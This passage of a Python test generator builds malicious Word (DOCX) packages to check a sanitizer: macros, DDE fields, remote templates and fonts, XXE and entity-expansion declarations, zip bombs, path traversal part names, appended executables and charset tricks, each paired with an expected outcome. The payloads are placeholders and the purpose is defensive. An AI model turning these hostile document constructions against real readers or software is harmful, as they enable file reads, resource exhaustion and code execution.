    word("macros-document-type.docx", "macros, and the type of a plain document", rels=[macro], parts=parts, must=macros, kind="docx-macro", says="OOXML_MACRO")
    word("macros-by-another-relation", "macros that call themselves a theme", rels=[("rId9", OFFICE + "theme", "vbaProject.bin")], parts=parts, must=macros, kind="docx-macro")
    word("macros-renamed", "macros in a part called a picture", rels=[("rId9", macro[1], "media/a.gif")], parts={"word/media/a.gif": P}, kind="docx-macro", says="OOXML_MACRO")
    word("macros-case", "macros by a name in other letters", rels=[("rId9", macro[1], "VBAPROJECT.BIN")], parts=parts, must=macros, kind="docx-macro", says="OOXML_MACRO")
    word("macros-package-level", "macros of the package", root_rels=[("rId9", macro[1], "word/vbaProject.bin")], parts=parts, must=macros, kind="docx-macro", says="OOXML_MACRO")
    word("macros-signature", "signed macros", rels=[macro], parts=dict(parts, **{"word/_rels/vbaProject.bin.rels": relations(
         ("rId1", MICROSOFT + "2006/relationships/vbaProjectSignature", "vbaProjectSignature.bin")), "word/vbaProjectSignature.bin": P}), must=macros, kind="docx-macro", says="OOXML_MACRO")
    word("key-map", "keys that run", rels=[("rId2", MICROSOFT + "2006/relationships/keyMapCustomizations", "customizations.xml")],
         parts={"word/customizations.xml": '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0341">'
                '<wne:macro wne:macroName="%s"/></wne:keymap></wne:keymaps></wne:tcg>' % P}, kind="docx-macro", says="OOXML_MACRO")
    word("toolbars", "toolbars of its own", rels=[("rId2", MICROSOFT + "2006/relationships/attachedToolbars", "attachedToolbars.bin")], parts={"word/attachedToolbars.bin": P}, kind="docx-macro", says="OOXML_CUSTOM_UI")
    for year in ("2006", "2007"):
        word("custom-ui-" + year, "a ribbon of its own", root_rels=[("rId9", MICROSOFT + year + "/relationships/ui/extensibility", "customUI/customUI.xml")],
             parts={"customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="%s"/>' % P}, kind="docx-macro", says="OOXML_CUSTOM_UI")
    word("task-panes", "a task pane that opens by itself", root_rels=[("rId9", MICROSOFT + "2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")],
         parts={"word/webextensions/taskpanes.xml": '<x visibility="1">%s</x>' % P, "word/webextensions/_rels/taskpanes.xml.rels": relations(
             ("rId1", MICROSOFT + "2011/relationships/webextension", "webextension1.xml")), "word/webextensions/webextension1.xml": "<x>%s</x>" % P}, kind="docx-macro", says="OOXML_WEB_EXTENSION")
    word("custom-xml", "data that is bound to a control", "<w:sdt><w:sdtPr><w:dataBinding w:prefixMappings='xmlns:x=\"%s\"' w:xpath='/x:%s' w:storeItemID='{0}'/><w:placeholder><w:docPart w:val='%s'/></w:placeholder>"
         "<w:text/></w:sdtPr><w:sdtContent>%s</w:sdtContent></w:sdt>" % (P, P, P, para(run("<w:t>欄</w:t>"))), [("rId2", OFFICE + "customXml", "../customXml/item1.xml")],
         {"customXml/item1.xml": "<x>%s</x>" % P, "customXml/_rels/item1.xml.rels": relations(("rId1", OFFICE + "customXmlProps", "itemProps1.xml")),
          "customXml/itemProps1.xml": "<x>%s</x>" % P}, kind="docx-data", says="OOXML_CUSTOM_XML", keeps=("本文", "欄"))
    word("custom-xml-element", "elements of a schema of its own", '<w:customXml w:uri="http://%s/" w:element="x"><w:customXmlPr><w:placeholder w:val="%s"/><w:attr w:name="x" w:val="%s"/></w:customXmlPr>%s</w:customXml>' % (
         P, P, P, para(run("<w:t>欄</w:t>"))), kind="docx-data", expect=OUTPUT, keeps=("本文", "欄"))
    word("fonts", "an embedded font", rels=[("rId2", OFFICE + "fontTable", "fontTable.xml")], parts={"word/fontTable.xml": xml("fonts",
         '<w:font w:name="x"><w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'),
         "word/_rels/fontTable.xml.rels": relations(("rId1", OFFICE + "font", "fonts/font1.odttf")), "word/fonts/font1.odttf": P},
         types=[("/word/fontTable.xml", WML + "fontTable+xml")], kind="docx-data", says="OOXML_FONT")
    word("font-remote", "a font that is fetched", rels=[("rId2", OFFICE + "fontTable", "fontTable.xml")], parts={"word/fontTable.xml": xml("fonts",
         '<w:font w:name="x"><w:embedRegular r:id="rId1" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>'),
         "word/_rels/fontTable.xml.rels": relations(("rId1", OFFICE + "font", "http://%s/" % P, "External"))}, types=[("/word/fontTable.xml", WML + "fontTable+xml")], kind="docx-data")
    word("printer", "a printer's settings", '<w:sectPr><w:printerSettings r:id="rId2"/></w:sectPr>', [("rId2", OFFICE + "printerSettings", "printerSettings1.bin")],
         {"word/printerSettings1.bin": P}, kind="docx-data", says="OOXML_PRINTER")
    word("glossary", "building blocks with DDE", rels=[("rId2", OFFICE + "glossaryDocument", "glossary/document.xml")], parts={"word/glossary/document.xml": xml("glossaryDocument",
         "<w:docParts><w:docPart><w:docPartBody>%s</w:docPartBody></w:docPart></w:docParts>" % para(field(DDE)))}, types=[("/word/glossary/document.xml", WML + "document.glossary+xml")],
         kind="docx-data", says="OOXML_GLOSSARY")
    word("signature", "a digital signature", root_rels=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs")],
         parts={"_xmlsignatures/origin.sigs": "", "_xmlsignatures/_rels/origin.sigs.rels": relations(("rId1", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/signature", "sig1.xml")),
                "_xmlsignatures/sig1.xml": "<Signature>%s</Signature>" % P}, kind="docx-data", says="OOXML_SIGNATURE")
    word("thumbnail", "a thumbnail that is a program", root_rels=[("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "docProps/thumbnail.emf")],
         parts={"docProps/thumbnail.emf": P}, kind="docx-data", says="OOXML_THUMBNAIL")
    word("people", "people and threads behind comments", rels=[("rId2", MICROSOFT + "2011/relationships/people", "people.xml"), ("rId3", MICROSOFT + "2011/relationships/commentsExtended", "commentsExtended.xml")],
         parts={"word/people.xml": '<x userId="%s"/>' % P, "word/commentsExtended.xml": "<x>%s</x>" % P}, kind="docx-data", expect=OUTPUT)
    word("properties", "properties of its own, and a base for links", root_rels=[("rId8", OFFICE + "custom-properties", "docProps/custom.xml"), ("rId9", OFFICE + "extended-properties", "docProps/app.xml")],
         parts={"docProps/custom.xml": "<x>%s</x>" % P, "docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>\\\\%s\\t.dotm</Template>'
                "<HyperlinkBase>http://%s/</HyperlinkBase></Properties>" % (P, P)}, kind="docx-data", expect=OUTPUT)
    word("unreachable", "a part nothing refers to", parts={"word/%s.exe" % P: "MZ" + P}, kind="docx-data")
    word("hidden-text", "hidden text", para(run("<w:rPr><w:vanish/></w:rPr><w:t>見えない文</w:t>")), must=(), expect=OUTPUT, keeps=("本文", "見えない文"), says="WORD_HIDDEN_TEXT", kind="docx-data")
    word("hidden-by-style", "text hidden by its style", para(run('<w:rPr><w:specVanish/><w:webHidden/><w:vanish w:val="on"/></w:rPr><w:t>見えない文</w:t>')), must=(), expect=OUTPUT,
         keeps=("本文",), says="WORD_HIDDEN_TEXT", kind="docx-data")


def story(target, body, extra="", data=None, name="word/h.xml", mode=None, **more):
    """A header by a relationship with that target."""
    row = ("rIdS", OFFICE + "header", target) + ((mode,) if mode else ())
    return dict(body=body + USES["header"], rels=[row], parts={name: xml("hdr", para(field(DDE, "頭")))} if data is None else {name: data}, **more)


def make_tricks():
    kind = "docx-disguise"
    targets = {
        "absolute": "/word/h.xml", "dots": "../word/./x/../h.xml", "percent": "%68.xml", "case": "H.XML", "fragment": "h.xml#x", "query": "h.xml?x", "backslash": ".\\h.xml",
        "outside": "../../../h.xml", "double-percent": "%2568.xml", "percent-slash": "..%2fword%2fh.xml", "itself": "document.xml", "rels": "_rels/document.xml.rels",
        "types": "../[Content_Types].xml", "file": "file:///word/h.xml", "nul": "h.xml%00", "empty": "", "space": " h.xml ",
    }
    for key, target in targets.items():
        word("target-" + key, "a relationship's target: " + key, kind=kind, expect=ANY, **story(target, ""))
    header = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    for mode in ("External", "Internal", "external", "EXTERNAL", "x", ""):
        word("mode-" + (mode + "-upper" if mode.isupper() else mode or "empty"), "a header whose TargetMode is %r" % mode, kind=kind, expect=ANY, types=[("/word/h.xml", header)],
             parts={"word/_rels/document.xml.rels": '%s<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdS" Type="%sheader" Target="h.xml" TargetMode="%s"/>'
                    "</Relationships>" % (HEAD, OFFICE, mode), "word/h.xml": xml("hdr", para(field(DDE)))}, body=USES["header"])
    word("mode-lie", "an outside address called internal", para(run(picture('r:embed="rId2"'))), [("rId2", OFFICE + "image", "http://%s/a.png" % P, "Internal")], kind=kind)
    word("mode-lie-picture", "an inside picture called external", para(run(picture('r:embed="rId2"'))), [("rId2", OFFICE + "image", "media/%s.gif" % P, "External")], {"word/media/%s.gif" % P: GIF}, kind=kind)
    word("ids-twice", "two relationships of one id", para('<w:hyperlink r:id="rId2"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
         [("rId2", OFFICE + "hyperlink", "http://example.jp/", "External"), ("rId2", OFFICE + "hyperlink", "file://%s" % P, "External")], kind=kind, expect=ANY)
    word("ids-by-case", "ids that differ by case", para('<w:hyperlink r:id="RID2"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
         [("rId2", OFFICE + "hyperlink", "file://%s" % P, "External"), ("RID2", OFFICE + "hyperlink", "http://example.jp/", "External")], kind=kind)
    word("id-injection", "an id that is markup", para('<w:hyperlink r:id="x&quot; onclick=&quot;%s"><w:r><w:t>x</w:t></w:r></w:hyperlink>' % P),
         [("x&quot; onclick=&quot;%s" % P, OFFICE + "hyperlink", "http://example.jp/", "External")], kind=kind, expect=ANY)
    word("relations-of-relations", "relationships of relationships", rels=[("rId2", OFFICE + "styles", "styles.xml")], parts={
         "word/_rels/_rels/document.xml.rels.rels": relations(("rId1", OFFICE + "attachedTemplate", "http://%s/" % P, "External")),
         "word/styles.xml": xml("styles", "")}, types=[("/word/styles.xml", WML + "styles+xml")], kind=kind, expect=OUTPUT)
    word("relation-cycle", "parts that refer to each other", USES["header"], [("rIdS", OFFICE + "header", "h.xml")], {"word/h.xml": xml("hdr", para(field(DDE))),
         "word/_rels/h.xml.rels": relations(("rId1", OFFICE + "header", "h.xml"), ("rId2", OFFICE + "officeDocument", "document.xml"))}, types=[("/word/h.xml", header)], kind=kind)
    word("strict-relation", "a template by the strict form", rels=[("rId2", "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "http://%s/" % P, "External")], kind=kind)
    word("relation-type-case", "a type in other letters", rels=[("rId2", OFFICE.upper() + "ATTACHEDTEMPLATE", "http://%s/" % P, "External")], kind=kind)
    word("relation-unknown", "a type that nobody knows", rels=[("rId2", "urn:%s" % P, "http://%s/" % P, "External")], kind=kind)
    word("main-outside", "the main part is elsewhere", target="http://%s/d.xml" % P, kind=kind, expect=REFUSED)
    word("main-by-dots", "the main part by dots", target="../word/../word/document.xml", kind=kind, expect=ANY, must=("..",))
    word("main-twice", "two main parts", root_rels=[("rId2", OFFICE + "officeDocument", "word/other.xml")], parts={"word/other.xml": xml("document", "<w:body>%s</w:body>" % para(field(DDE)))},
         types=[("/word/other.xml", WML + MAIN)], kind=kind, expect=ANY, keeps=())
    word("type-html", "a main part called HTML", main="text/html", kind=kind, expect=ANY, must=("text/html",))
    word("type-lie-sheet", "a document that calls itself a workbook", para(field(DDE)), main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", kind=kind, expect=ANY)
    word("type-twice", "two types of one part", types=[("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("/WORD/DOCUMENT.XML", "text/html")], kind=kind, expect=ANY,
         must=("macroEnabled", "text/html"))
    word("type-default-lie", "programs called XML", parts={"[Content_Types].xml": TYPES % ('<Default Extension="exe" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="%s"/>'
         '<Override PartName="/word/%s.exe" ContentType="%sheader+xml"/>' % (WML + MAIN, P, WML)), "word/%s.exe" % P: "MZ"}, kind=kind, expect=ANY)
    word("settings-is-document", "settings that are a story with DDE", rels=[("rId2", OFFICE + "settings", "settings.xml")], parts={"word/settings.xml": xml("document", "<w:body>%s</w:body>" % para(field(DDE)))},
         types=[("/word/settings.xml", WML + "settings+xml")], kind=kind, expect=OUTPUT)
    for key, name in (("slash", "/word/x/%s"), ("dots", "../../%s"), ("backslash", "word\\%s"), ("drive", "C:\\%s"), ("percent", "word/%%2e%%2e/%s"), ("bidi", "word/\u202e%s"), ("space", "word/ %s .exe")):
        word("part-name-" + key, "a part's name: " + key, parts={name % P: "x" + P}, kind=kind, expect=ANY)
    files = list(parts_of(para(field(DDE))).items())
    good = [(name, data if name != "word/document.xml" else xml("document", "<w:body>%s</w:body>" % TEXT).encode()) for name, data in files]
    bad = dict(files)["word/document.xml"]

    def zipped(name, attacks, entries, expect=ANY, must=(P,), **more):
        add("word/%s.docx" % name, kind, attacks, archive(entries, **more), must, expect)

    entries = [Entry(n, d) for n, d in good]
    zipped("zip-twice", "two main parts of one name", entries + [Entry("word/document.xml", bad)])
    zipped("zip-twice-case", "two main parts by the case of letters", entries + [Entry("WORD/Document.xml", bad)])
    zipped("zip-local-name", "a local header that names the main part", entries + [Entry("word/x.xml", bad, local_name="word/document.xml")])
    zipped("zip-central-name", "a directory that names the main part", entries[:-1] + [Entry("word/document.xml", good[-1][1], local_name="word/x.xml")])
    zipped("zip-size", "sizes that disagree", entries[:-1] + [Entry("word/document.xml", good[-1][1], central_size=9)])
    zipped("zip-crc", "a damaged part", entries[:-1] + [Entry("word/document.xml", good[-1][1], crc=1)])
    zipped("zip-orphan", "a document before the document", entries, before=archive([Entry(n, d) for n, d in files]))
    zipped("zip-behind", "a program behind the document", entries, after=b"MZ" + P.encode())
    zipped("zip-comment", "a comment that is a program", entries, OUTPUT, comment=b"MZ" + P.encode())
    zipped("zip-extra", "data in the entries' fields", [Entry(n, d, extra=b"\xfe\xca\x0e\0" + P.encode(), comment=P.encode()) for n, d in good], OUTPUT)
    zipped("zip-deep-name", "the main part with a slash before", [Entry(n if n != "word/document.xml" else "/" + n, d) for n, d in files])
    zipped("zip-bomb", "a part that swells", entries + [Entry("word/media/x.xml", b" " * (1 << 24))], OUTPUT, ())
    for key, head in (("doctype", '<!DOCTYPE x SYSTEM "http://%s/x.dtd">' % P), ("entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///%s">]>' % P), ("parameter", '<!DOCTYPE x [<!ENTITY %% e SYSTEM "http://%s/">%%e;]>' % P),
                      ("bomb", '<!DOCTYPE x [<!ENTITY a "%s">%s]>' % (P, "".join('<!ENTITY a%d "&a%s;&a%s;">' % (i, i - 1 or "", i - 1 or "") for i in range(1, 40)))),
                      ("attlist", '<!DOCTYPE x [<!ATTLIST w:document x CDATA "%s">]>' % P)):
        word("xml-" + key, "a declaration: " + key, head=head, must=[P, "<!"], kind=kind, expect=ANY)
    word("xml-bomb-in-rels", "entities in relationships", parts={"word/_rels/document.xml.rels": '<!DOCTYPE x [<!ENTITY e "%s">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&e;</Relationships>' % P},
         kind=kind, expect=ANY)
    word("xml-bomb-in-types", "entities in the content types", parts={"[Content_Types].xml": '<!DOCTYPE x [<!ENTITY e "%s">]>' % P + TYPES % ('<Override PartName="/word/document.xml" ContentType="%s"/>' % (WML + MAIN))},
         kind=kind, expect=ANY)
    word("xml-stylesheet", "a style sheet for the document", head='<?xml-stylesheet type="text/xsl" href="http://%s/x.xsl"?><?mso-application progid="%s"?><!-- %s -->' % (P, P, P), kind=kind, expect=OUTPUT)
    word("xml-include", "XInclude", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///%s" parse="text"/>' % P, kind=kind)
    document = xml("document", "<w:body>%s</w:body>" % (TEXT + para(field(DDE)))).split("?>", 1)[1]
    for charset, code in (("UTF-16", "utf-16"), ("UTF-16BE", "utf-16-be"), ("UTF-7", "utf-7"), ("Shift_JIS", "cp932"), ("EUC-JP", "euc-jp"), ("EBCDIC-CP-US", "cp037")):
        data = ('<?xml version="1.0" encoding="%s"?>%s' % (charset, document)).replace("本文" if code == "cp037" else "\0", "x").replace("結果" if code == "cp037" else "\0", "x")
        word("charset-" + charset.lower(), "the main part in " + charset, parts={"word/document.xml": data.encode(code)}, kind=kind, expect=DISARMED if charset == "UTF-16" else ANY, keeps=("本文",) if charset == "UTF-16" else ())
    word("charset-lie", "UTF-8 that calls itself UTF-16", parts={"word/document.xml": '<?xml version="1.0" encoding="UTF-16"?>' + document}, kind=kind, expect=ANY)
    word("charset-utf16-styles", "styles in UTF-16", rels=[("rId2", OFFICE + "styles", "styles.xml")], parts={"word/styles.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + xml(
         "styles", '<w:x a="%s"/>' % P).split("?>", 1)[1]).encode("utf-16")}, types=[("/word/styles.xml", WML + "styles+xml")], kind=kind, expect=OUTPUT)
    word("prefixes", "everything by other prefixes", parts={"word/document.xml": document.replace("xmlns:w=", "xmlns:r2=").replace("<w:", "<r2:").replace("</w:", "</r2:").replace(" w:", " r2:")}, kind=kind)
    word("ignorable", "what an older program reads and a newer does not", parts={"word/document.xml": xml("document", "<w:body>%s%s</w:body>" % (TEXT, para(
         '<mc:AlternateContent><mc:Choice Requires="w14">%s</mc:Choice><mc:Fallback>%s</mc:Fallback></mc:AlternateContent>' % (field("PAGE"), field(DDE))))).replace("<w:document ", '<w:document mc:Ignorable="w14" ')},
         kind=kind, expect=OUTPUT)
    word("process-content", "an unknown element whose content is to be read", parts={"word/document.xml": xml("document", '<w:body>%s<q:x>%s</q:x></w:body>' % (TEXT, para(field(DDE)))).replace(
         "<w:document ", '<w:document xmlns:q="urn:q" mc:Ignorable="q" mc:ProcessContent="q:x" ')}, kind=kind, expect=OUTPUT)
    word("must-understand", "a namespace that must be understood", parts={"word/document.xml": xml("document", '<w:body>%s</w:body>' % TEXT).replace(
         "<w:document ", '<w:document xmlns:q="urn:%s" mc:MustUnderstand="q" ' % P)}, kind=kind, expect=ANY)
    word("deep-tables", "tables in tables in tables", "<w:tbl><w:tr><w:tc>" * 400 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 400 + para(field(DDE)), kind=kind, expect=ANY, keeps=())
    word("deep-fields", "fields in fields in fields", para(char("begin") * 3000 + instr(DDE) + char("end") * 3000), kind=kind, expect=ANY, keeps=())
    word("many-fields", "20,000 fields", "".join(para(char("begin") + instr("DDE %s" % P) + char("end")) for _ in range(20000)), kind=kind)
    word("many-attributes", "thousands of attributes", "<w:p %s/>" % " ".join('a%d="%s"' % (i, P) for i in range(3000)), kind=kind, expect=ANY, keeps=())
    word("many-relations", "20,000 relationships", rels=[("r%d" % i, OFFICE + "attachedTemplate", "http://%s/%d" % (P, i), "External") for i in range(20000)], kind=kind, expect=ANY)
    word("long-instruction", "an instruction of a megabyte", para(field("PAGE " + "x" * 1000000 + P)), kind=kind)
    word("lone-surrogates", "characters that are none", para(run("<w:t>&#xD800;%s</w:t>" % P)), kind=kind, expect=ANY, must=(), keeps=())
    word("html-in-text", "text that looks like markup", para(run("<w:t>&lt;w:fldSimple w:instr=\"DDE x\"/&gt;</w:t>")), kind=kind, expect=OUTPUT, must=("<w:fldSimple",))


def make():
    make_fields()
    make_links()
    make_fetched()
    make_objects()
    make_packages()
    make_tricks()
